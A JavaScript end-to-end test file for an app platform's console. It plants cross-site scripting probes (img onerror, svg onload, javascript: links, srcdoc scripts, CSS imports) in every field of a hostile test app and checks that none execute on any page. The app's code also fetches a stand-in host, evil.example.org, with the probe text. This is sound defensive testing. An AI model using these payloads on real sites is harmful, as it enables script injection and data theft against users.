// One hostile app whose every text and file is a probe: markup, scripts, styles, addresses of a
// server that nobody may reach. Every page of the console is opened, as an admin and as a user;
// none of it becomes more than text.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { once } from 'node:events';
import { mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { start } from './demo.js';
import { openProduct } from './people.js';
import { signIn } from './signin.js';

const consoleFolder = join(dirname(fileURLToPath(import.meta.url)), '..', '..', 'internal', 'edge', 'console');

let demo, app, installation, trap, port, n = 0;
const asked = [];
// Each probe has a number, which tells in a request or a complaint where it stood.
const planted = new Map();
const probe = (where, most = 1000) => {
  planted.set(++n, where);
  const long = `p${n}"'><img src=http://127.0.0.1:${port}/${n}.png onerror=self.owned=${n}><svg onload=self.owned=${n}><a href="javascript:self.owned=${n}">go</a><form action=http://127.0.0.1:${port}/${n}><button>send</button></form><iframe srcdoc="<script>parent.owned=${n}</script>"></iframe><style>@import url(http://127.0.0.1:${port}/${n}.css)</style><script>self.owned=${n}</script>\${7*7}{{.}}`;
  const short = `p${n}"><img src=//127.0.0.1:${port}/${n} onerror=owned=${n}>`;
  return long.length <= most ? long : short.slice(0, most);
};
const q = JSON.stringify; // a JSON text is YAML

const picture = () => `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="self.owned=1"><script>self.owned=1</script><image href="http://127.0.0.1:${port}/icon.png"/><foreignObject><img src="http://127.0.0.1:${port}/fo.png"/></foreignObject><circle r="4"/></svg>`;

function manifest(hosts) {
  return `app:
  id: ari:cloud:ecosystem::app/01939f00-0000-4000-8000-0000000c0be5
  name: ${q(probe('app.name', 250))}
  description: ${q(probe('app.description', 900))}
  runtime: {name: nodejs22.x}
  storage: {entities: [{name: thing, attributes: {title: {type: string}}}]}
permissions:
  scopes: ["storage:app", "read:jira-work"]
  external:
    configurable: true
    images: ["*.pictures.example.com"]
    fetch: {backend: [${hosts}, {address: stats.example.net, category: analytics, inScopeEUD: false}]}
remotes:
  - key: logs
    configurable: {name: ${q(probe('remotes.configurable.name', 200))}, description: ${q(probe('remotes.configurable.description', 400))}}
  - {key: login, baseUrl: "https://login.music.example"}
providers:
  auth:
    - key: music
      name: ${q(probe('providers.name', 200))}
      type: oauth2
      clientId: ${q(probe('providers.clientId', 60))}
      scopes: [openid]
      remotes: [login]
      bearerMethod: authorization-header
      actions: {authorization: {remote: login, path: /auth}, exchange: {remote: login, path: /token}, retrieveProfile: {remote: login, path: /me, resolvers: {id: sub, displayName: name}}}
modules:
  webtrigger: [{key: page, function: page, response: {type: dynamic}}]
  scheduledTrigger: [{key: nightly, function: page, interval: day}]
  consumer: [{key: consumer, queue: work, function: consume}]
  trigger: [{key: heard, function: consume, events: ["tracker:comment:created"]}]
  action: [{key: act, name: ${q(probe('action.name', 200))}, function: page, actionVerb: GET, description: ${q(probe('action.description', 400))}, inputs: {text: {title: ${q(probe('action.inputs.title', 200))}, type: string, required: false, description: ${q(probe('action.inputs.description', 400))}}}}]
  tracker:issuePanel: [{key: panel, title: ${q(probe('issuePanel.title', 200))}, icon: "resource:ui;icon.svg", resource: ui, resolver: {function: page}}]
  tracker:annexPage: [{key: own, title: ${q(probe('annexPage.title', 200))}, description: ${q(probe('annexPage.description', 400))}, resource: ui, resolver: {function: page}}]
  function: [{key: page, handler: index.page, providers: {auth: [music]}}, {key: consume, handler: index.consume}]
resources: [{key: ui, path: static}]
`;
}

const source = () => `import api, { asApp, fetch, route, invokeRemote } from '@forge/api';
import { Queue } from '@forge/events';
import kvs from '@forge/kvs';
const text = ${q(probe('log lines, errors, stored values'))};
export const page = async (request) => {
  console.log(text, { [text]: text });
  console.error(new Error(text));
  const said = [];
  const run = async (p) => { try { said.push(String(await p())); } catch (e) { said.push(e.code ?? e.name); } };
  await run(() => kvs.set('k' + text.replace(/[^a-z]/g, '').slice(0, 40), { text }));
  await run(() => kvs.set('long', text.repeat(3)));
  await run(() => fetch('https://evil.example.org/' + encodeURIComponent(text)));
  await run(() => fetch('https://api.example.com/?' + encodeURIComponent(text)));
  await run(() => invokeRemote('logs', { path: '/' + encodeURIComponent(text), method: 'POST', body: '{}' }));
  await run(() => asApp().requestJira(route\`/rest/api/3/issue/\${text}\`));
  await run(() => new Queue({ key: 'work' }).push({ body: { text }, delayInSeconds: 600 }));
  await run(() => new Queue({ key: 'work' }).push({ body: { text } }));
  return { statusCode: 200, headers: { 'content-type': ['text/html'] }, body: text, said };
};
export const consume = async () => { const e = new Error(text); e.name = 'X<img src=x onerror=self.owned=2>'; throw e; };
`;

async function deploy(hosts, ...more) {
  writeFileSync(join(app, 'manifest.yml'), manifest(hosts));
  writeFileSync(join(app, 'src', 'index.js'), source());
  return demo.run(demo.access.developerToken, app, 'deploy', '--environment', 'development', ...more);
}

before(async () => {
  trap = createServer((req, res) => { asked.push(req.url); res.end('caught'); });
  trap.listen(0, '127.0.0.1');
  await once(trap, 'listening');
  ({ port } = trap.address());
  demo = await start();
  app = mkdtempSync(join(tmpdir(), 'annex-browser-probes-'));
  for (const dir of ['src', 'static']) mkdirSync(join(app, dir));
  writeFileSync(join(app, 'static', 'index.html'), `<!doctype html><title>${probe('the title of its page')}</title><p>app</p>`);
  writeFileSync(join(app, 'static', 'icon.svg'), picture());
  const where = ['--environment', 'development', '--site', demo.access.site, '--product', demo.access.product];
  const { developerToken, adminToken } = demo.access;
  await deploy('api.example.com');
  const made = await demo.run(adminToken, app, 'install', '--confirm', ...where);
  installation = made.installation?.id ?? made.id;
  // It is called, by people and by whoever knows its address; a version that asks for more waits.
  const { url } = await demo.run(developerToken, app, 'webtrigger', 'create', '--function', 'page', ...where);
  const caller = await demo.browser.newPage();
  for (let i = 0; i < 2; i++) await caller.goto(url).catch(() => {});
  // What its page's policy stopped is reported by anybody.
  const documents = (await demo.run(adminToken, app, 'explain', 'csp', ...where)).documents;
  await caller.goto(documents.ui).catch(() => {});
  await caller.evaluate((text) => fetch('/_annex/reports', { method: 'POST', headers: { 'content-type': 'application/csp-report' }, body: JSON.stringify({ 'csp-report': { 'document-uri': location.href, 'effective-directive': 'img-src', 'violated-directive': 'img-src', 'blocked-uri': text, 'script-sample': text, 'source-file': text } }) }).then((r) => r.status), probe('a report')).catch(() => {});
  await caller.close();
  // Its trigger throws: what it was told is a dead letter at once.
  const context = await demo.browser.newContext();
  const issue = await openProduct(context, demo, 'alice', '/browse/DEMO-1');
  await issue.getByLabel('Add a comment').fill(probe('a comment'));
  await issue.getByRole('button', { name: 'Comment' }).click();
  for (let i = 0, dead = 0; i < 200 && !dead; i++) {
    await new Promise((r) => { setTimeout(r, 100); });
    const got = await fetch(`${demo.access.url}/api/v1/installations/${installation}/queue`, { headers: { authorization: `Bearer ${adminToken}` } });
    dead = (await got.json()).dead?.length;
  }
  await context.close();
  await deploy('api.example.com, more.example.org', '--approve');
  // Its developer asks for another installation.
  await demo.run(developerToken, app, 'deploy', '--environment', 'staging');
  await demo.run(developerToken, app, 'install', '--environment', 'staging', '--site', demo.access.site, '--product', demo.access.product).catch(() => {});
});
after(async () => {
  await demo?.stop();
  trap?.close();
  if (app) rmSync(app, { recursive: true, force: true });
});

// The console's pages, by the routes of its source; those of other origins' ways back are left out.
const elsewhere = /^\/(static\/|sign-in|oauth\/|openid\/|connect\/|consent\/|my\/programs\/authorize|left\/)|\.(json|ndjson)$/;
const routes = () => readdirSync(consoleFolder).filter((f) => f.endsWith('.go') && !f.endsWith('_test.go'))
  .flatMap((f) => [...readFileSync(join(consoleFolder, f), 'utf8').matchAll(/"GET (\/[^"]*)"/g)].map((m) => m[1].replace('{$}', '')))
  .filter((r) => !elsewhere.test(r));
const pattern = (route) => new RegExp(`^${route.replace(/[.]/g, '\\.').replace(/\{[^}]+\}/g, '[^/]+')}$`);

// crawl opens every page that a link or a form leads to, and looks at each.
async function crawl(page, from) {
  const seen = new Map();
  const queue = from.map((path) => new URL(path, demo.access.uiUrl).href);
  const origin = new URL(demo.access.uiUrl).origin;
  const found = [];
  const look = async (where) => {
    const got = await page.evaluate(() => ({
      owned: self.owned ?? null,
      violations: self.violations ?? [],
      markup: [...document.querySelectorAll('img, svg [onload], iframe, style, script:not([src]), form[action*="127.0.0.1"], a[href*="127.0.0.1"], a[href^="javascript:" i]')].filter((e) => !e.closest('annex-page')).map((e) => e.outerHTML.slice(0, 200))
        .filter((html) => !/^<img [^>]*src="(data:|\/)/.test(html) && !/^<script type="application\/json"/.test(html)),
      handlers: [...document.querySelectorAll('*')].flatMap((e) => e.getAttributeNames().filter((a) => /^on/.test(a)).map((a) => `${e.localName} ${a}`)),
      links: [...document.querySelectorAll('a[href]')].map((a) => a.href),
    }));
    if (got.owned !== null) found.push(`${where}: ${planted.get(got.owned)} ran`);
    for (const v of got.violations) found.push(`${where}: ${v}`);
    for (const m of got.markup) found.push(`${where}: ${m}`);
    for (const h of got.handlers) found.push(`${where}: ${h}`);
    return got.links;
  };
  while (queue.length > 0 && seen.size < 600) {
    const at = new URL(queue.shift());
    at.hash = '';
    // Pages of one kind that differ in what they list alone are opened a few times.
    const kind = at.pathname.replace(/[0-9a-f-]{20,}/g, '*') + [...at.searchParams.keys()].sort().join(',');
    const times = seen.get(kind) ?? 0;
    if (at.origin !== origin || times >= 4 || elsewhere.test(at.pathname) || seen.has(at.href)) continue;
    seen.set(kind, times + 1);
    const res = await page.goto(at.href).catch((e) => { if (!/ERR_ABORTED|Download/.test(e.message)) throw e; return null; });
    if (!res) continue;
    seen.set(at.href, at.pathname);
    const head = res.headers();
    if (!/require-trusted-types-for 'script'; trusted-types 'none'/.test(head['content-security-policy'] ?? '')) found.push(`${at.pathname}: no Trusted Types`);
    queue.push(...(await look(at.pathname)));
    // The questions behind its forms: pages too. Nothing is answered there.
    const forms = await page.locator('form[action$="/propose"]').count();
    for (let i = 0; i < Math.min(forms, 12); i++) {
      await page.goto(at.href);
      const form = page.locator('form[action$="/propose"]').nth(i);
      const gone = page.waitForNavigation({ timeout: 8000 }).catch(() => {});
      const sent = await form.evaluate((f) => { f.noValidate = true; for (const c of f.querySelectorAll('input[type=checkbox][required]')) c.checked = true; f.requestSubmit(f.querySelector('button:not([formaction*="deny"])')); return f.action; }).then(() => true, () => false);
      await gone;
      if (!sent) continue;
      await look(`${at.pathname}, form ${i + 1}`);
      const path = new URL(page.url()).pathname;
      if (path !== at.pathname) seen.set(`${path} ${i}`, path);
    }
  }
  return { paths: [...new Set([...seen.values()].filter((v) => typeof v === 'string'))], found };
}

for (const name of ['alice', 'bob']) {
  test(`an app whose every text is a probe stays text on every page of the console that ${name} has`, async () => {
    const context = await demo.browser.newContext({ viewport: { width: 1000, height: 760 } });
    await context.addInitScript(() => {
      self.violations = [];
      addEventListener('securitypolicyviolation', (e) => self.violations.push(`${e.effectiveDirective} ${e.blockedURI} ${e.sample}`), true);
    });
    const requests = [];
    context.on('request', (r) => requests.push(r.url()));
    context.on('dialog', (d) => { requests.push(`a dialog: ${d.message()}`); void d.dismiss(); });
    const page = await signIn(context, demo, name, '/my/apps');
    requests.length = 0;
    const admin = name === 'alice';
    const start = admin ? ['/', '/apps', `/apps/${installation}`, '/my/apps', '/my/accounts', '/my/programs', '/my/tunnels', '/audit', '/site', '/accounts', '/accounts/external', '/device'] : ['/', '/my/apps', `/my/apps/${installation}`, '/my/accounts', '/my/programs', '/my/tunnels'];
    const { paths, found } = await crawl(page, [...start, `/connect/${installation}/music`]);
    assert.deepEqual(found, []);
    assert.deepEqual(requests.filter((u) => ![demo.access.uiUrl, demo.access.productPageUrl, 'data:'].some((ours) => u.startsWith(ours)) && !u.includes('.apps.localhost')), [], 'requests to elsewhere');
    assert.deepEqual(asked, []);
    const has = (text) => page.content().then((html) => html.includes(text));
    await page.goto(`${demo.access.uiUrl}/my/apps`);
    assert.ok(await has('&lt;img'), 'the probes are not on the pages');
    if (admin) {
      const missed = routes().filter((r) => !paths.some((p) => pattern(r).test(p)));
      assert.deepEqual(missed, [], 'pages of the console that were not opened');
    }
    await context.close();
  });
}
